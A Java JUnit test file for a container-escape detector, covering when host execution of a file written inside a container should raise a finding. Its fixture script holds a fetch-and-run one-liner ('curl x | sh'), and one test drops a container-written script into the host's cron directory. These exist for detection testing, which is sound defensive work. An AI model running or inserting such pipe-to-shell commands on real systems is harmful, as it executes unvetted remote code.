package dev.sigil.signatures;

import static dev.sigil.signatures.Scenario.CONTAINER_ID;
import static dev.sigil.signatures.Scenario.ELF;
import static dev.sigil.signatures.Scenario.containerWrite;
import static dev.sigil.signatures.Scenario.hostExec;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.sigil.core.Finding;
import dev.sigil.core.Origin;
import dev.sigil.core.testing.EventBuilder;
import java.nio.charset.StandardCharsets;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * Files that belong to a container because it wrote them: by (dev, inode) for what the host
 * executes directly, by path for a script or a loader's program, whose inode the exec does not
 * carry. A host file a container merely ran is not one of them.
 */
class WrittenInContainerTest {
  private static final byte[] SCRIPT = "#!/bin/sh\ncurl x | sh\n".getBytes(StandardCharsets.US_ASCII);
  private final Scenario scenario = new Scenario();

  private void assertSilent() {
    assertTrue(scenario.findings().isEmpty(), () -> "unexpected " + scenario.findings());
  }

  @ParameterizedTest
  @ValueSource(strings = {"7f", "7f45", "7f454c", "23"})
  void aHeaderSplitAcrossWritesStillMarksTheFile(String firstBytes) {
    scenario.feed(containerWrite("/usr/local/bin/kworker", hex(firstBytes), 2049, 901),
        hostExec("/mnt/shared/kworker").inode(2049, 901).build());

    assertEquals("written-in-container", scenario.only().data().get("evidence"));
    assertEquals(CONTAINER_ID, scenario.only().data().get("containerId"));
  }

  @Test
  void aSplitHeaderLeavesTrc1022AsTraceeHasIt() {
    scenario.feed(containerWrite("/usr/local/bin/kworker", hex("7f454c"), 2049, 901));
    assertTrue(scenario.all().isEmpty(), () -> "unexpected " + scenario.all());
  }

  @ParameterizedTest
  @ValueSource(strings = {"7e", "7f46", "2321", "00", ""})
  void otherFirstBytesDoNotMarkTheFile(String firstBytes) {
    byte[] bytes = firstBytes.equals("2321") ? "#?".getBytes(StandardCharsets.US_ASCII) : hex(firstBytes);
    scenario.feed(containerWrite("/usr/local/bin/kworker", bytes, 2049, 902),
        hostExec("/mnt/shared/kworker").inode(2049, 902).build());
    assertSilent();
  }

  private static byte[] hex(String text) {
    byte[] bytes = new byte[text.length() / 2];
    for (int i = 0; i < bytes.length; i++) {
      bytes[i] = (byte) Integer.parseInt(text.substring(2 * i, 2 * i + 2), 16);
    }
    return bytes;
  }

  @Test
  void aScriptWrittenInAContainerAndRunByItsPathOnTheHostFires() {
    // A hostPath volume mounted at the same path: the kernel reports /bin/dash as the executed
    // file, so only the script's path links the exec to the write.
    scenario.feed(containerWrite("/var/run/agent/hook.sh", SCRIPT, 2049, 903),
        hostExec("/var/run/agent/hook.sh").scriptRunAs("/var/run/agent/hook.sh", "/usr/bin/dash")
            .interp("/bin/sh").inode(2049, 12).build());

    Finding finding = scenario.only();
    assertEquals("written-in-container-path", finding.data().get("evidence"));
    assertEquals("/var/run/agent/hook.sh", finding.data().get("path"));
    assertEquals(CONTAINER_ID, finding.data().get("containerId"));
  }

  @ParameterizedTest
  @ValueSource(strings = {"/bin/sh", "/bin/bash", "/usr/bin/python3"})
  void aScriptWrittenInAContainerAndGivenToAHostInterpreterFires(String interpreter) {
    scenario.feed(containerWrite("/var/run/agent/hook.sh", SCRIPT, 2049, 903),
        hostExec(interpreter).argv(interpreter, "/var/run/agent/hook.sh").build());
    assertEquals("written-in-container-path", scenario.only().data().get("evidence"));
  }

  @Test
  void aScriptWrittenBelowTheHostsRootMountedInAContainerFires() {
    // kubectl debug node/... and privileged agents mount the host's / at /host.
    scenario.feed(containerWrite("/host/etc/cron.hourly/update", SCRIPT, 2049, 904),
        hostExec("/etc/cron.hourly/update").scriptRunAs("/etc/cron.hourly/update", "/usr/bin/dash")
            .interp("/bin/sh").by("run-parts").build());
    assertEquals("written-in-container-path", scenario.only().data().get("evidence"));
  }

  @Test
  void aRelativeScriptPathIsResolvedBeforeItIsLookedUp() {
    scenario.feed(containerWrite("/var/run/agent/hook.sh", SCRIPT, 2049, 903),
        hostExec("/bin/bash").argv("bash", "./hook.sh").pwd("/var/run/agent").build());
    assertEquals("./hook.sh", scenario.only().data().get("path"));
    assertEquals("written-in-container-path", scenario.only().data().get("evidence"));
  }

  @Test
  void anElfWrittenInAContainerAndRunThroughTheLoaderFires() {
    scenario.feed(containerWrite("/var/run/agent/helper", ELF, 2049, 905),
        hostExec("/lib64/ld-linux-x86-64.so.2").argv("/lib64/ld-linux-x86-64.so.2", "/var/run/agent/helper")
            .fromKernel(true).build());
    assertEquals(List.of("SGL-1002"), scenario.ids());
    assertEquals("written-in-container-path", scenario.only().data().get("evidence"));
  }

  @Test
  void aScriptAtAnotherPathThanTheOneWrittenIsNotCorrelated() {
    // The limit the README states: a volume mounted elsewhere on the host.
    scenario.feed(containerWrite("/data/hook.sh", SCRIPT, 2049, 906),
        hostExec("/srv/volumes/data/hook.sh").scriptRunAs("/srv/volumes/data/hook.sh", "/usr/bin/dash")
            .interp("/bin/sh").build(),
        hostExec("/usr/local/bin/run.sh").scriptRunAs("/usr/local/bin/run.sh", "/usr/bin/dash")
            .interp("/bin/sh").build());
    assertSilent();
  }

  @Test
  void aNonExecutableWriteAtTheSamePathIsNotCorrelated() {
    scenario.feed(containerWrite("/var/run/agent/hook.sh", "echo hi\n".getBytes(StandardCharsets.US_ASCII), 2049, 907),
        hostExec("/bin/sh").argv("sh", "/var/run/agent/hook.sh").build());
    assertSilent();
  }

  @Test
  void anElfRunDirectlyIsJudgedByItsInodeNotItsPath() {
    // Containers install /usr/local/bin/x for themselves; the host's own /usr/local/bin/x is
    // another file.
    scenario.feed(containerWrite("/usr/local/bin/kubectl", ELF, 2049, 908),
        hostExec("/usr/local/bin/kubectl").inode(2049, 9999).build());
    assertSilent();
  }

  @Test
  void aContainersScriptGivenAsAnArgumentToAHostScriptDoesNotRun() {
    scenario.feed(containerWrite("/var/run/agent/hook.sh", SCRIPT, 2049, 903),
        hostExec("/bin/bash").argv("bash", "/opt/deploy.sh", "/var/run/agent/hook.sh").build());
    assertSilent();
  }

  @ParameterizedTest
  @ValueSource(strings = {"/usr/bin/nvidia-smi", "/usr/bin/nsenter", "/usr/bin/ls", "/host/usr/bin/bash"})
  void aHostBinaryAContainerRanByBindMountIsNotContained(String pathInContainer) {
    // nvidia-smi mounted into GPU pods, nsenter -t 1 from node agents, kubectl debug's chroot
    // /host bash: the container runs the host's own file (same device, same inode).
    scenario.feed(hostExec(pathInContainer).in(Origin.CONTAINER).inode(2049, 4711).build(),
        hostExec("/usr/bin/nvidia-smi").inode(2049, 4711).build());
    assertSilent();
  }

  @Test
  void aContainerWriteWithoutInodeStillMarksItsPathAndCountsADataProblem() {
    scenario.feed(EventBuilder.event("magic_write").origin(Origin.CONTAINER).containerId(CONTAINER_ID)
            .arg("pathname", "/var/run/agent/hook.sh").arg("bytes", SCRIPT).build(),
        hostExec("/bin/sh").argv("sh", "/var/run/agent/hook.sh").build());
    assertEquals(1, scenario.stats().dataProblems());
    assertEquals("written-in-container-path", scenario.only().data().get("evidence"));
  }
}
